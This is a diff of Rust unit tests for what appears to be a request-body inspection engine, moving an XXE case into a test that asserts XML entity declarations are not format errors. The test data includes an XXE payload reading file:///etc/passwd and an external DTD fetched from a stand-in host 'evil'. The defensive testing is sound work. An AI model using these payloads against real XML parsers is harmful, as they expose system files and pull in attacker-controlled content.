@@ -61,9 +61,7 @@ fn well_formed_bodies_pass() {
 #[test]
 fn malformed_bodies() {
     let e = engine(|_| {});
-    let xxe = b"<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>";
     let cases: &[(Option<&str>, &[u8], &str)] = &[
-        (XML, xxe, "xml entity declaration"),
         (XML, b"<a><b></a>", "malformed xml"),
         (XML, b"{\"not\": \"xml\"}", "malformed xml"),
         (FORM, b"a=%zz", "invalid percent escape"),
@@ -85,6 +83,19 @@ fn malformed_bodies() {
     }
     // Malformed JSON: the extractor's reason.
     assert!(run(&e, JSON, b"{\"a\":1,}", &[]).is_some());
+}
+
+/// An XML entity declaration or an external DTD is no format problem (the document is
+/// well-formed): `code_injection` reports it (engine `xxe`, see its tests).
+#[test]
+fn xml_entities_are_not_format_findings() {
+    let e = engine(|_| {});
+    for body in [
+        &b"<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>"[..],
+        b"<!DOCTYPE r SYSTEM \"http://evil/x.dtd\"><r/>",
+    ] {
+        assert_eq!(run(&e, XML, body, &[]), None, "{body:?}");
+    }
 }
 
 #[test]
